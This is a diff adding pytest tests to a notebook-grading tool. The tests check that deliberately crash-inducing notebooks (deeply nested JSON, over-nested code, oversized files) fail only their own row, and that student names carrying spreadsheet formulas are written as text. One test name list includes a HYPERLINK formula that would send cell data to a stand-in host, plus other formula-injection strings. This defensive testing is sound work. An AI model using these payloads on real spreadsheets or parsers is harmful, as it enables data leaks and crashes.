@@ -411,6 +411,26 @@ def test_a_link_in_a_class_is_never_followed_and_is_an_error_in_its_own_row(tmp_
     assert grade.read_submission("ivy", found["ivy"]).code  # read as usual
 
 
+def test_a_notebook_built_to_crash_the_reader_costs_only_its_own_row(tmp_path):
+    """Deep JSON, a cell nested past Python's parser, a file larger than the reader takes: each is
+    that notebook's own error or unparsable cell (before, the first two ended the whole class's
+    grading with a RecursionError)."""
+    deep = tmp_path / "deep" / "05_results.ipynb"
+    deep.parent.mkdir()
+    deep.write_text('{"cells": ' + "[" * 100_000 + "]" * 100_000 + "}")
+    nested = _small(tmp_path / "nested" / "05_results.ipynb",
+                    "def accuracy_over_examples(batches):\n    return " + "+".join(["1"] * 100_000))
+    huge = tmp_path / "huge" / "05_results.ipynb"
+    huge.parent.mkdir()
+    huge.write_bytes(b'{"cells": [], "x": "' + b"a" * (judge.MAX_NOTEBOOK_BYTES + 1) + b'"}')
+    (nb,) = grade.read_submission("deep", [deep]).notebooks
+    assert nb.problem == "error: not a notebook (RecursionError)"
+    (nb,) = grade.read_submission("huge", [huge]).notebooks
+    assert nb.problem.startswith("error: larger than 32 MiB")
+    sub = grade.read_submission("nested", [nested])
+    assert not sub.code and "nested too deep to parse" in sub.notebooks[0].problem
+
+
 def test_two_files_for_one_notebook_are_one_line_naming_both(tmp_path):
     a = _small(tmp_path / "eve" / "05_results.ipynb", ACCURACY)
     b = _small(tmp_path / "eve" / "backup" / "05_results.ipynb", ACCURACY)
@@ -446,6 +466,18 @@ def test_bad_paths_and_options_get_one_clear_line(tmp_path, capsys):
 def _result(student: str = "ana") -> grade.StudentResult:
     nb = grade.NotebookResult("05_results.ipynb", "05", {11: grade.Verdict(11, "✅", "ok")})
     return grade.StudentResult(student, [nb])
+
+
+def test_a_name_a_spreadsheet_would_run_is_written_as_text(tmp_path):
+    """A student who names their file ``=HYPERLINK(…)__05_results.ipynb`` (or ``+``, ``-``, ``@``)
+    would run a formula in the instructor's spreadsheet: the gradebook writes it as text."""
+    evil = ['=HYPERLINK("http://x.example/?"&A1,"x")', "+1+cmd", "-2+3", "@SUM(A1)"]
+    grade.write_gradebook([_result(name) for name in evil] + [_result("ana")], tmp_path / "grades.csv")
+    rows = list(csv.reader((tmp_path / "grades.csv").open(encoding="utf-8")))
+    names = [row[0] for row in rows[2:]]
+    assert names == ["'" + name for name in evil] + ["ana"]
+    assert rows[2][1:] == rows[-1][1:]  # the points themselves are untouched
+    assert grade.spreadsheet_safe("-1.5") == "-1.5" and grade.spreadsheet_safe(-3) == -3
 
 
 def test_the_gradebook_never_follows_a_link(tmp_path):
